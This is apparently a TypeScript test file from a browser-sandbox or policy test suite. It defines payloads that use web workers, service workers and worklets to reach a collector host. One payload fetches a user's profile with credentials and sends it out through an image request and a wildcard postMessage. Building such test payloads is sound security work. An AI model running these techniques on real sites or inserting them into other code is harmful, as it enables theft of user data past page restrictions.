// Threads and service workers: scripts that outlive or accompany the document.
import { family, script } from "./payload.ts";

const body = (hit: string): string => `fetch("${hit}", { mode: "no-cors" }).catch(console.info);`;
const blob = (code: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: "text/javascript" }))`;

export const workers = family("workers", {
  "worker-of-blob": script(({ hit }) => `window.kept = new Worker(${blob(body(hit()))});`),
  "worker-of-data": script(
    ({ hit }) => `window.kept = new Worker("data:text/javascript,${encodeURIComponent(body(hit()))}");`,
  ),
  "module-worker-of-blob": script(({ hit }) => `window.kept = new Worker(${blob(body(hit()))}, { type: "module" });`),
  "worker-that-imports": script(({ hit }) => `window.kept = new Worker(${blob(`importScripts("${hit()}")`)});`),
  "worker-import-of-module": script(
    ({ hit }) => `window.kept = new Worker(${blob(`import("${hit()}").catch(console.info)`)}, { type: "module" });`,
  ),
  "worker-outside": script(({ hit }) => `window.kept = new Worker("${hit()}");`, {
    unproven: "a page's own origin alone may give it a worker",
  }),
  "worker-socket": script(
    ({ collector, name }) =>
      `window.kept = new Worker(${blob(`new WebSocket("${collector.replace("http", "ws")}/${name}/socket")`)});`,
  ),
  "worker-events": script(({ hit }) => `window.kept = new Worker(${blob(`new EventSource("${hit()}")`)});`),
  "worker-request": script(
    ({ hit }) =>
      `window.kept = new Worker(${blob(`const x = new XMLHttpRequest(); x.open("GET", "${hit()}"); x.send();`)});`,
  ),
  "worker-in-worker": script(
    ({ hit }) =>
      `window.kept = new Worker(${blob(`new Worker(URL.createObjectURL(new Blob(['fetch("${hit()}", {mode:"no-cors"})'])))`)});`,
  ),
  "worker-asks-app": script(
    ({
      app,
      hit,
    }) => `const w = window.kept = new Worker(${blob(`fetch("${app}/api/profile/me", { credentials: "include" }).then((r) => r.text()).then(postMessage, console.info)`)});
      w.onmessage = ({ data }) => { new Image().src = "${hit()}?" + encodeURIComponent(data); top.postMessage({ struck: "worker", way: "profile", what: data }, "*"); };`,
  ),
  "shared-worker": script(({ hit }) => `window.kept = new SharedWorker(${blob(body(hit()))});`),
  "shared-worker-of-data": script(
    ({ hit }) => `window.kept = new SharedWorker("data:text/javascript,${encodeURIComponent(body(hit()))}");`,
  ),
  "service-worker": script(
    ({ tell }) =>
      `const at = await navigator.serviceWorker.register("/worker.js"); ${tell("registered", "at.scope")} await at.unregister();`,
  ),
  "service-worker-ready": script(
    ({ app, tell }) =>
      `const at = await navigator.serviceWorker.register("${app}/worker.js", { scope: "/kept/" }); ${tell("registered", "at.scope")} await at.unregister();`,
  ),
  "service-workers-listed": script(
    ({ tell }) => `const all = await navigator.serviceWorker.getRegistrations(); ${tell("listed", "all.length")}`,
  ),
  "audio-worklet": script(({ hit }) => `await new AudioContext().audioWorklet.addModule("${hit()}");`),
  "paint-worklet": script(({ hit }) => `await CSS.paintWorklet.addModule("${hit()}");`),
});
